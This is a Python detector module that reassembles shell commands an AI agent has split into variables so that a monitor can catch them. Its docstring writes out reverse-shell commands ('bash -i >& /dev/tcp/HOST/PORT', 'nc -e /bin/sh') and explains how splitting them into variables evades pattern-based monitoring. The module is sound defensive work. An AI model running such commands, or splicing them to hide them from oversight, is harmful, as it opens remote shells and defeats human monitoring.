"""A command line spelled out of variables: short literals assigned, then run glued together.

A command that would be read at once (`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`)
is cut into literals kept in variables and put back together where it runs: `a=ba;b=sh;
c=/dev/tc;d=p/HOST/443;$a$b -i >& $c$d 0>&1`. No pattern reads the pieces; the shell joins
them. The line is read again with every variable it assigned a literal to replaced by that
literal (the assignments themselves dropped), and what that spelled-out line does is what the
command does. Only a line that glues two variables together (`$a$b`, `${x}${y}`, `"$a""$b"`, the
quotes then dropped where they protect nothing) is read so:
an ordinary script names its settings one at a time (`DEST=/srv/www; rsync -a site/ $DEST`),
and spelled out it reads exactly as it did.

Read on the whole command line an agent is about to run, never on a response's text (the
stream monitor does not scan for them): `spliced_hits`.
"""

from __future__ import annotations

import re

from redline.redlines.capabilities import Capability, Hit

_GLUED = re.compile(r"\$\{?[A-Za-z_]\w*\}?\"{0,2}\$\{?[A-Za-z_]")
"""Two variables expanded side by side, bare or quoted (`$a$b`, `"$a""$b"`): the shell joins
their values into one word."""
_ASSIGNMENT = re.compile(
    r"""(?:^|(?<=[;&|\n]))\s*([A-Za-z_]\w*)=('[^'\n]*'|"[^"$`\\\n]*"|[^\s;&|'"`$()<>]*)"""
    r"""\s*(?:;|&&|\n|$)"""
)
"""A variable given a literal as a statement of its own (`a=ba;`, `d="p/1.2.3.4/443" &&`)."""
_MAX_LENGTH = 20_000
"""The longest line spelled out (the reading is linear in the line; any number of assignments,
dummies among them, is read)."""
_JOINED_QUOTES = re.compile(r'(?<=[^\s"])""(?=[^\s"])')
"""Two quoted words side by side (`"ba""sh"`): one word to the shell."""
_PLAIN_QUOTED = re.compile(r'"([^"\s$`\\;&|<>()*?]*)"')
"""A quoted word with nothing the quotes protect: the same word bare."""


def spelled_out(action: str) -> str | None:
    """`action` with the literals its variables were assigned put where they are expanded and
    the assignments dropped, when it glues two variables together; otherwise None."""
    if "$" not in action or len(action) > _MAX_LENGTH or _GLUED.search(action) is None:
        return None
    values: dict[str, str] = {}
    kept: list[str] = []
    cursor = 0
    for match in _ASSIGNMENT.finditer(action):
        value = match.group(2)
        if value[:1] in ("'", '"'):
            value = value[1:-1]
        values[match.group(1)] = value
        kept.append(action[cursor : match.start()])
        cursor = match.end()
    if len(values) < 2:
        return None
    kept.append(action[cursor:])
    rest = " ".join(part.strip() for part in kept if part.strip())

    def value_of(name: re.Match[str]) -> str:
        word = name.group(1) or name.group(2)
        return values.get(word, name.group(0))

    spelled = re.sub(r"\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)", value_of, rest)
    if spelled == rest:
        return None
    return _PLAIN_QUOTED.sub(r"\1", _JOINED_QUOTES.sub("", spelled))


def spliced_hits(action: str, found: set[Capability]) -> list[Hit]:
    """Capabilities of `action` spelled out (`spelled_out`) that the line as written does not
    show (`found`), each cited over the whole line."""
    spelled = spelled_out(action)
    if spelled is None:
        return []
    from redline.redlines.code import code_hits
    from redline.redlines.grammars import CodeLanguage

    start = len(action) - len(action.lstrip())
    end = len(action.rstrip())
    return [
        Hit(hit.capability, start, end, action[start:end])
        for hit in code_hits(spelled, CodeLanguage.BASH, 0, 1)
        if hit.capability not in found
    ]
